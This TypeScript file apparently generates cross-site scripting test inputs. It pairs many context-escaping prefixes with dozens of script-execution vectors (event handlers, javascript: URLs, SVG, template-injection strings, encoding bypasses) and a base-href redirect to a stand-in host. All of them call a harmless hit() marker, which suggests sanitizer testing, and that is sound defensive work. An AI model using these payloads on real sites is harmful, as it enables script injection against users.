/** What escapes from where a text may have been put. */
const BEFORE = [
  ...['', '">', "'>", '`>', '">\n', '</title>', '</textarea>', '</script>', '</style>', '</svg>', '</a>', '-->', ']]>'],
  ...['"\'></option></select>', '&quot;>', '\u0000">', '\ufeff', '{{', '<!--', '<![CDATA['],
] as const;

/** What would call `hit()` then. */
const ACTIONS = [
  ...[
    '<script>hit()</script>',
    '<ScRiPt >hit()</sCrIpT>',
    '<script/x>hit()</script >',
    '<script src=data:,hit()></script>',
  ],
  ...[
    '<img src=x onerror=hit()>',
    '<img/src=x/onerror=hit()>',
    '<IMG SRC=x OnErRoR="hit()">',
    '<img src=x onerror\n=hit()>',
  ],
  ...[
    '<svg onload=hit()>',
    '<svg/onload=hit()//',
    '<svg><script>hit()</script></svg>',
    '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  ],
  ...['<body onload=hit()>', '<iframe srcdoc="<script>parent.hit()</script>">', '<iframe src=javascript:parent.hit()>'],
  ...['<details open ontoggle=hit()>', '<video><source onerror=hit()></video>', '<audio src=x onerror=hit()>'],
  ...['<input autofocus onfocus=hit()>', '<select autofocus onfocus=hit()>', '<textarea autofocus onfocus=hit()>'],
  ...[
    '<a href=javascript:hit() autofocus>x</a>',
    '<a href="java\tscript:hit()">x</a>',
    '<form action=javascript:hit()><button>x',
  ],
  ...['<math><mtext><script>hit()</script>', '<object data="javascript:hit()">', '<embed src="javascript:hit()">'],
  ...[
    '<style>@import"javascript:hit()"</style>',
    '<link rel=stylesheet href=data:,*{background:url(javascript:hit())}>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=javascript:hit()">',
    '<base href=//evil.example/>',
    '<marquee onstart=hit()>',
  ],
  ...[
    'onmouseover=hit() x="',
    '" onmouseover="hit()',
    "' onfocus='hit()' autofocus='",
    'javascript:hit()',
    'JaVaScRiPt:hit()',
  ],
  ...[
    'data:text/html,<script>hit()</script>',
    '&lt;script&gt;hit()&lt;/script&gt;',
    '\\x3cscript\\x3ehit()',
    '\\u003cscript>hit()',
  ],
  ...['$' + '{hit()}', '{{constructor.constructor("hit()")()}}', '<%= hit() %>', '#{hit()}', '"-hit()-"', "';hit();//"],
  ...[
    '＜script＞hit()＜/script＞',
    '<scr\u0000ipt>hit()</script>',
    '<x onclick=hit()>x</x>',
    '<template><script>hit()</script></template>',
  ],
] as const;

/** So many different texts, each of which some page somewhere would have run. */
export function payloads(count: number): readonly string[] {
  const all = BEFORE.flatMap((before) => ACTIONS.map((action) => before + action));
  const more = all.flatMap((text) => [text, `${text}<!--`, text.toUpperCase().replaceAll('HIT()', 'hit()')]);
  const different = [...new Set(more)];
  return Array.from({ length: count }, (_, i) => different[Math.floor((i * different.length) / count)] ?? '');
}
